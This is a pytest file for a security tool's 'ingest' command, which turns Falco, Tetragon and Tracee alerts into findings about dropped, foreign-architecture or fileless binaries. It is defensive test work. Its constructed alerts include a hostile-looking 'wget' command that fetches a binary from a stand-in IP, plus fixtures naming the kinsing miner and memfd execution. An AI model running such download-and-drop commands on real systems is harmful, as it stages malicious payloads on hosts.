"""`bindrift ingest` end to end, as a real command on a real store: an event naming a file reachable through
a live host process gets the full analysis; one naming a container not on this node gets a finding from
the event alone; the HTTP endpoint takes real POSTs on loopback (Falco http_output and Falcosidekick)."""

from __future__ import annotations

import hashlib
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
from tests.conftest import SHARED
from tests.ingest.test_falco import DROP
from tests.refusing_store import REFUSAL, refuse_path

from bindrift.schema.finding import Finding
from bindrift.sinks.store.sql_store import FindingFilter, SqlStore

BINDRIFT = str(Path(sys.executable).with_name("bindrift"))
OTHER_NODE_CONTAINER = "9965a6a599f6"  # formats.md's example container: not running on this machine


def _ingest(tool: str, db: str, data: bytes, *extra: str) -> tuple[list[Finding], str]:
    result = subprocess.run([BINDRIFT, "ingest", "--from", tool, "--db", db, *extra, "-"], input=data,
                            capture_output=True, timeout=120, check=False)  # fmt: skip
    assert result.returncode == 0, result.stderr.decode()
    findings = [msgspec.json.decode(line, type=Finding) for line in result.stdout.splitlines()]
    return findings, result.stderr.decode()


def _stored(db: str, **where: str) -> list[Finding]:
    store = SqlStore(db)
    try:
        return store.list_findings(FindingFilter(**where))  # type: ignore[arg-type]
    finally:
        store.close()


@pytest.fixture
def writer(tmp_path: Path, test_binaries: Path) -> Iterator[tuple[subprocess.Popen[bytes], Path]]:
    """A live host process that has written an arm64 busybox (and waits on its stdin)."""
    target = tmp_path / "drop" / "bb"
    source = test_binaries / "busybox-static-arm64" / "bin" / "busybox"
    code = f"import shutil, sys; shutil.copy({str(source)!r}, {str(target)!r}); print('ok', flush=True); "
    code += "sys.stdin.read()"
    target.parent.mkdir()
    process = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert process.stdout is not None and process.stdout.readline() == b"ok\n"
    yield process, target
    process.communicate(timeout=10)


def test_reachable_host_file_gets_full_analysis(writer: tuple[subprocess.Popen[bytes], Path], tmp_path: Path) -> None:
    process, target = writer
    db = f"sqlite:///{tmp_path / 'ingest.db'}"
    # Constructed in Falco's shape: the "Write below monitored dir"-style open_write alert for the file.
    alert = {"hostname": "node-t", "priority": "Error", "rule": "Write below monitored dir", "source": "syscall",
             "time": "2026-07-11T09:44:58.000000001Z", "output_fields": {
                 "container.id": "host", "evt.time": 1783763098000000001, "evt.type": "openat",
                 "evt.is_open_write": True, "fd.name": str(target), "proc.pid": process.pid, "proc.name": "wget",
                 "proc.exepath": "/usr/bin/wget", "proc.cmdline": f"wget -O {target} http://198.51.100.7/bb",
                 "proc.ppid": 1, "proc.pname": "systemd", "user.name": "root", "user.uid": 0}}  # fmt: skip
    findings, summary = _ingest("falco", db, json.dumps(alert).encode() + b"\n")
    assert (
        "1 lines read, 1 events kept, 0 rejected, 0 ignored; 1 analysed in full, 1 findings (0 from the event alone)"
        in summary
    )
    (finding,) = findings
    assert (finding.category, finding.severity, finding.source) == ("Suspicious binary", "high", "ingest:falco")
    assert finding.file.path == str(target)
    assert finding.file.sha256 == hashlib.sha256(target.read_bytes()).hexdigest()
    assert finding.file.size == target.stat().st_size
    assert finding.file.elf is not None and (finding.file.elf.arch, finding.file.elf.linking) == ("aarch64", "static")
    assert [c.check for c in finding.file.triage] == ["foreign_arch"]
    assert finding.writer is not None
    assert (finding.writer.pid, finding.writer.exe, finding.writer.downloaded_by, finding.writer.user) == (
        process.pid, "/usr/bin/wget", "wget", "root")  # fmt: skip
    assert [(r.pid, r.comm) for r in finding.writer.lineage] == [(1, "systemd")]
    assert (finding.resource.node, finding.resource.container_id) == ("node-t", "")
    assert [e.kind for e in finding.evidence] == ["triage:incompatible-architecture", "reported"]
    assert finding.evidence[1].values["rule"] == "Write below monitored dir"
    assert "T1105" in [t.id for t in finding.techniques]
    assert [f.id for f in _stored(db, node="node-t")] == [finding.id]


def test_unreachable_file_gets_an_event_only_finding(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'ingest.db'}"
    shell = {
        **DROP,
        "rule": "Terminal shell in container",
        "output_fields": {"evt.time": 1, "container.id": OTHER_NODE_CONTAINER, "proc.name": "sh"},
    }  # no drift verdict: no finding
    lines = [json.dumps(DROP), json.dumps(shell), "{broken"]
    findings, summary = _ingest("falco", db, "\n".join(lines).encode(), "--cluster", "prod")
    assert (
        "3 lines read, 2 events kept, 1 rejected, 0 ignored; 0 analysed in full, 1 findings (1 from the event alone)"
        in summary
    )
    (finding,) = findings
    assert (finding.category, finding.severity, finding.source) == ("Added Binary Executed", "low", "ingest:falco")
    assert finding.file.path == "/tmp/kinsing" and finding.file.sha256 == "" and finding.file.elf is None
    assert finding.resource.node == "node-a" and finding.resource.cluster == "prod"
    assert (finding.resource.namespace, finding.resource.pod, finding.resource.container_name) == (
        "shop", "web-7d9c-abc12", "web")  # fmt: skip
    assert finding.resource.container_id == OTHER_NODE_CONTAINER + "0" * 52
    assert finding.resource.image == "docker.io/library/nginx:1.27"
    assert finding.process is not None
    assert (finding.process.pid, finding.process.exe, finding.process.args, finding.process.ppid) == (
        48211, "/tmp/kinsing", ["kinsing", "-c", "/tmp/k.cfg"], 48100)  # fmt: skip
    only, reported = finding.evidence
    assert only.kind == "event-only"
    reason = f"container {OTHER_NODE_CONTAINER}{'0' * 52} is not running on this node"
    assert only.values == {"tool": "falco", "field": "proc.is_exe_upper_layer=true",
                           "rule": "Drop and execute new binary in container", "reason": reason}  # fmt: skip
    assert "rests on the falco event alone" in only.summary
    assert reported.values["proc.exe_ino.ctime_duration_proc_start"] == -39291537
    assert [t.id for t in finding.techniques] == ["T1105", "T1106"]


def test_host_process_gone_is_event_only(tmp_path: Path) -> None:
    # Constructed Tetragon exec of a memory-only program by a host process that no longer exists.
    dead = subprocess.Popen(["true"])
    dead.wait()
    event = {"process_exec": {"process": {"pid": dead.pid, "binary": "/memfd:x (deleted)", "uid": 0,
             "start_time": "2026-07-11T09:44:58Z", "binary_properties": {"file": {"inode": {"number": "9",
             "links": "0"}}}}}, "node_name": "node-t", "time": "2026-07-11T09:44:58Z"}  # fmt: skip
    findings, _ = _ingest("tetragon", f"sqlite:///{tmp_path / 'i.db'}", json.dumps(event).encode())
    (finding,) = findings
    assert (finding.category, finding.severity, finding.source) == ("Fileless execution", "high", "ingest:tetragon")
    assert finding.evidence[0].values["field"] == "binary_properties.file.inode.links=0"
    assert "cannot be opened" in str(finding.evidence[0].values["reason"])


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


TOKEN = "falco-sender-secret-0123456789"


def _post(url: str, body: bytes) -> tuple[int, dict[str, int]]:
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {TOKEN}"}
    request = urllib.request.Request(url, data=body, headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read())


def test_http_endpoint_takes_falco_and_falcosidekick_posts(tmp_path: Path) -> None:
    """A bare port listens on the loopback address."""
    db = f"sqlite:///{tmp_path / 'http.db'}"
    port = _free_port()
    server = subprocess.Popen([BINDRIFT, "ingest", "--from", "falco", "--db", db, "--listen", str(port)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              env={**os.environ, "BINDRIFT_ADMIN_TOKEN": TOKEN})  # fmt: skip
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert server.poll() is None, server.communicate()[1].decode()
                time.sleep(0.05)
        url = f"http://127.0.0.1:{port}/"
        # Falco http_output: one alert per POST.
        assert _post(url, json.dumps(DROP).encode()) == (202, {"kept": 1, "rejected": 0, "ignored": 0})
        # Falcosidekick webhook output: uuid added, customfields merged, RFC3339Nano time, source defaulted.
        sidekick = {k: v for k, v in DROP.items() if k != "source"}
        sidekick |= {"uuid": "2a5b6e1c-9d0f-4c6b-8f4e-0c6c1f4a7f10",
                     "output_fields": {**DROP["output_fields"], "env": "prod"}}  # type: ignore[dict-item]  # fmt: skip
        assert _post(url, json.dumps(sidekick).encode()) == (202, {"kept": 1, "rejected": 0, "ignored": 0})
        assert _post(url, b"{not json") == (400, {"kept": 0, "rejected": 1, "ignored": 0})
        # JSON lines in one body: each line counted
        shell = {**DROP, "rule": "Terminal shell in container", "output_fields": {"evt.time": 1, "proc.name": "sh"}}
        assert _post(url, json.dumps(shell).encode() + b"\n\n[]\n") == (202, {"kept": 1, "rejected": 1, "ignored": 0})
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        connection.putrequest("POST", "/")
        connection.putheader("Authorization", f"Bearer {TOKEN}")
        connection.putheader("Content-Length", str(5 << 20))  # over the bound: refused before the body is read
        connection.endheaders()
        assert connection.getresponse().status == 413
        connection.close()
    finally:
        server.send_signal(signal.SIGTERM)
        _out, err = server.communicate(timeout=30)
    assert server.returncode == 0, err.decode()
    assert "5 lines read, 3 events kept, 2 rejected" in err.decode()
    (finding,) = _stored(db, container_id=OTHER_NODE_CONTAINER + "0" * 52)
    assert (finding.category, finding.count, finding.source) == ("Added Binary Executed", 2, "ingest:falco")
    assert finding.evidence[0].kind == "event-only"


def test_cli_rejects_bad_listen_address() -> None:
    result = subprocess.run([BINDRIFT, "ingest", "--from", "falco", "--listen", "nowhere"], capture_output=True,
                            timeout=60, check=False)  # fmt: skip
    assert result.returncode == 2 and b"not HOST:PORT" in result.stderr


def test_tracee_drop_then_exec_joins_the_writer(tmp_path: Path) -> None:
    """The real TRC-1022 sample (dpkg dropping a file in a container not on this node), then a constructed
    sched_process_exec of that file: an event-only finding citing the signature, written by dpkg — muted by
    the built-in package-manager trust, counted and kept."""
    drop = (SHARED / "samples" / "tracee" / "docs-head-events.jsonl").read_bytes().splitlines()[0]
    cid = "ae95a93ce0c2f1b824ac4b205e4d1a3c8f724d663626c1ad23576efec64318de"
    execution = {"timestamp": 1677676198000000000, "hostProcessId": 4800, "processId": 450, "processName": "strace",
                 "eventName": "sched_process_exec", "container": {"id": cid, "name": "app"},
                 "args": [{"name": "pathname", "value": "/usr/bin/strace.dpkg-new"},
                          {"name": "argv", "value": ["strace.dpkg-new", "-V"]}]}  # fmt: skip
    findings, summary = _ingest(
        "tracee", f"sqlite:///{tmp_path / 't.db'}", drop + b"\n" + json.dumps(execution).encode()
    )
    assert (
        "2 lines read, 2 events kept, 0 rejected, 0 ignored; 0 analysed in full, 1 findings (1 from the event alone)"
        in summary
    )
    (finding,) = findings
    assert (finding.category, finding.source, finding.file.path) == (
        "Added Binary Executed", "ingest:tracee", "/usr/bin/strace.dpkg-new")  # fmt: skip
    assert finding.evidence[0].kind == "event-only"
    assert finding.evidence[0].values["field"] == "signatureID=TRC-1022"
    assert "was written after the container started" in finding.evidence[0].summary
    assert finding.writer is not None and (finding.writer.comm, finding.writer.pid) == ("dpkg", 4741)
    assert finding.process is not None and finding.process.args == ["strace.dpkg-new", "-V"]
    assert (finding.state, finding.suppressed_by) == ("muted", "builtin:package-manager")
    # the exec event did not name the pod or image: the drop before it did
    assert (finding.resource.pod, finding.resource.namespace, finding.resource.image) == (
        "app-75ff449bcd-hfwnz", "default", "docker.io/library/ubuntu:latest")  # fmt: skip


def test_a_detection_the_store_refuses_is_set_aside_counted_and_the_rest_stored(tmp_path: Path) -> None:
    """A detection the store refuses (a trigger in the database): set aside as a dead letter, said in the summary
    and the metrics; a Falco event dated in year 1 (forged, or Go's zero time) beside it is stored at the time it
    was received, the time given in its evidence."""
    db = f"sqlite:///{tmp_path / 'i.db'}"
    store = SqlStore(db)
    try:
        refuse_path(store.engine, "/tmp/refused")
    finally:
        store.close()
    refused = {**DROP, "output_fields": {**DROP["output_fields"], "proc.exepath": "/tmp/refused"}}
    forged = {**DROP, "output_fields": {**DROP["output_fields"], "evt.time": -62135596800 * 10**9,
                                        "proc.exepath": "/tmp/other", "proc.name": "other"}}  # fmt: skip
    metrics = tmp_path / "m.prom"
    data = (json.dumps(refused) + "\n" + json.dumps(forged) + "\n").encode()
    _, summary = _ingest("falco", db, data, "--metrics-file", str(metrics))
    assert "2 events kept" in summary and "1 events failed (1 set aside: bindrift findings dead-letters)" in summary
    assert 'bindrift_ingest_dead_lettered_total{tool="falco"} 1.0' in metrics.read_text()
    (kept,) = _stored(db, category="Added Binary Executed")
    assert kept.file.path == "/tmp/other" and kept.first_seen.year == datetime.now(UTC).year
    assert next(e for e in kept.evidence if e.kind == "bounded").values == {"observed_at": "0001-01-01T00:00:00+00:00"}
    store = SqlStore(db)
    try:
        letters, total = store.dead_letters()
    finally:
        store.close()
    assert total == 1 and REFUSAL in letters[0].error
